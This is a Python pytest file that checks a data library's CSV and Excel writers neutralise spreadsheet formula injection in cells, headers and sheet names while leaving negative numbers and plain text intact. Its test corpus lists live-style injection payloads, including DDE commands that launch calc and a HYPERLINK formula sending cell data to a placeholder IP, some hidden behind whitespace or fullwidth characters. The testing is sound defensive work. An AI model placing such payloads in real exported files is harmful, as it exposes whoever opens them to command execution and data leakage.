"""What leaves as CSV or XLSX starts no formula: not in a cell, not in a header, not as a sheet."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import polars as pl
import pytest

from manikin.data.schema import Column, TableSchema
from manikin.data.table import Table
from manikin.errors import IntegrityError, OutputError
from manikin.io.formulas import is_formula, is_formula_text
from manikin.io.layout import Layout
from manikin.io.tables import layout_from_json, open_table, read, write

PAYLOADS = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")', "=SUM(A1:A9)",
    "=WEBSERVICE(A1)", "=DDE(a;b;c)", "=@SUM(A1)", "=-1", "==1", "= 1", "+1+1", "+cmd|'/C calc'!A0",
    "+A1", "+(1)", "-1+1", "-2+3+cmd|'/C calc'!A0", "-A1", "-(1)", "- none -", "-5 mg", "@SUM(1)",
    "@home", "＝1+1", "＋A1", "－A1", "＠SUM(1)", "﹦1+1", "=\u200b1",
)  # fmt: skip
DISGUISES = ("", " ", "\t", "\r", "\n", "\u200b", "\ufeff", "\u00a0\x0b")
CORPUS = tuple(disguise + payload for payload in PAYLOADS for disguise in DISGUISES)
HARMLESS = (
    *(f"{sign}{number}" for sign in "+-" for number in (
        "1", "0", "1.5", ".5", "1e5", "1.5E-7", "1,5", "1,234.50", "5%", "12.5%", "007", "1.")),
    "-", "+", "++", "+++", "+-", "-inf", "+Inf", "-NaN", "<5", ">=3", "a=b", "1-2", "x", "'", "'x",
    "10-20", "3+", "a@b", "(-)", "#1", "1 = 2", "?", "*", "/", "\\", "0", "1e5", "–", "—", "−5",
    "½", "%", "é", "😀", " x",
)  # fmt: skip


def runs(cell: str) -> bool:
    """Say by other means than the package whether a spreadsheet would run a cell."""
    seen = "".join(c for c in cell if c.isprintable() and not c.isspace())
    if re.fullmatch(r"[+-]?[\d.,]*(?:[eE][+-]?\d+)?%?|[+-]+|[+-](?i:inf|nan|infinity)", seen):
        return cell[:1] in ("\t", "\r", "\n")
    return seen[:1] in tuple("=+-@＝＋－＠﹦﹢﹣﹫") or cell[:1] in ("\t", "\r", "\n")


def test_the_corpus_is_what_it_says() -> None:
    assert len(set(CORPUS)) >= 200 and all(map(runs, CORPUS))
    assert len(set(HARMLESS)) >= 50 and not any(map(runs, HARMLESS))


def test_one_cell_and_a_column_of_cells_are_judged_alike() -> None:
    cells = [*CORPUS, *HARMLESS]
    assert is_formula(pl.Series(cells)).to_list() == [is_formula_text(cell) for cell in cells]
    assert [is_formula_text(cell) for cell in cells] == [True] * len(CORPUS) + [False] * len(
        HARMLESS
    )
    assert is_formula(pl.Series([None, "=1"])).to_list() == [False, True]


def tables_of(cells: tuple[str, ...], kind: str) -> Table:
    """Return a table with every cell as category (or text) and many of them as headers."""
    n = len(cells)
    if kind == "headers":
        columns = tuple(Column(f"{cell}", "integer") for cell in dict.fromkeys(cells))
        return Table(TableSchema(columns), np.arange(2), {c.name: np.ones(2) for c in columns})
    column = Column("c", "categorical", categories=cells)
    amount = Column("amount", "continuous", decimals=1)
    schema = TableSchema((column, amount))
    values = {"c": np.arange(n, dtype=np.int32), "amount": -np.arange(n) - 0.5}
    return Table(schema, np.arange(n), values)


def cells_of(path: Path, delimiter: str = ",", encoding: str = "utf-8") -> list[list[str]]:
    text = path.read_bytes().decode(encoding)
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("kind", ["cells", "headers"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("quote", ['"', "'"])
def test_no_csv_starts_a_formula(kind: str, delimiter: str, quote: str, tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write(tables_of(CORPUS, kind), path, Layout(delimiter=delimiter, quote=quote))
    text = path.read_bytes().decode()
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quotechar=quote))
    found = [cell for row in rows for cell in row if runs(cell)]
    assert found == []
    assert len(rows) == (len(CORPUS) + 1 if kind == "cells" else 3)


def test_bytes_of_a_cell_in_quotes_start_no_formula(tmp_path: Path) -> None:
    """A spreadsheet runs ="..." and "=..." alike: the apostrophe stands inside the quotes."""
    path = tmp_path / "t.csv"
    write(tables_of(CORPUS, "cells"), path, Layout(quoted=("c",), quoted_header=True))
    assert not [cell for row in cells_of(path) for cell in row if runs(cell)]
    assert b'"=' not in path.read_bytes()


def test_harmless_cells_and_negative_numbers_stay(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write(tables_of(HARMLESS, "cells"), path)
    rows = cells_of(path)[1:]
    assert [row[0] for row in rows] == list(HARMLESS)
    assert [float(row[1]) for row in rows] == [-i - 0.5 for i in range(len(HARMLESS))]


def test_a_round_trip_takes_the_apostrophe_off_again(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    cells = tuple(cell for cell in CORPUS if "\r" not in cell)  # line breaks are read as \n
    write(tables_of(cells, "cells"), path)
    source = open_table(path)
    assert source.cells["c"].to_list() == list(cells)
    again = tmp_path / "again.csv"
    write(source.table, again, source.layout)
    assert [cell for row in cells_of(again) for cell in row if runs(cell)] == []


@pytest.mark.parametrize("kind", ["cells", "headers"])
def test_no_workbook_holds_a_formula(kind: str, tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write(tables_of(CORPUS, kind), path)
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) >= len(set(CORPUS))
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    for cell in cells:
        if isinstance(cell.value, str) and runs(cell.value):
            assert cell.quotePrefix, cell.value  # a text even after somebody edits it
    with zipfile.ZipFile(path) as parts:
        inside = b"".join(parts.read(name) for name in parts.namelist())
    assert b"<f>" not in inside and b"<f " not in inside and b"<hyperlink" not in inside


def test_numbers_of_a_workbook_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    frame = pl.DataFrame(
        {"x": [-1.5, float("inf"), float("-inf"), 2.0] * 20, "i": [-3, 0, 1, 2] * 20}
    )
    frame.write_parquet(tmp_path / "t.parquet")
    write(read(tmp_path / "t.parquet"), path)
    sheet = openpyxl.load_workbook(path).active
    kinds = {
        cell.data_type
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if cell.value is not None
    }
    assert kinds <= {"n", "s"} and sheet["B2"].value == -3 and sheet["A2"].value == -1.5


@pytest.mark.parametrize(
    "name",
    ["=1+1", "+x", "@SUM(1)", "\t=1", "'quoted'", "a/b\\c?d*e[f]:g", "", " ", "History", "x" * 99,
     "＝1"],
)  # fmt: skip
def test_sheet_names_are_cleaned(name: str, tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write(tables_of(("a", "b"), "cells"), path, Layout(format="excel", sheet=name))
    (made,) = openpyxl.load_workbook(path).sheetnames
    assert not runs(made) and 1 <= len(made) <= 31


def test_a_text_longer_than_a_cell_is_not_cut_in_silence(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="32,767"):
        write(tables_of(("a" * 40_000, "b"), "cells"), tmp_path / "t.xlsx")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "field",
    [{"delimiter": "="}, {"delimiter": ""}, {"quote": ""}, {"quote": "=="}, {"encoding": "rot13"},
     {"encoding": "unheard"}, {"line_ending": "\n="}, {"format": "exe"}, {"sheet": 3},
     {"evil": "x"}],
)  # fmt: skip
def test_the_layout_of_a_strangers_model_cannot_make_formulas(field: dict[str, object]) -> None:
    with pytest.raises(IntegrityError):
        layout_from_json(field)
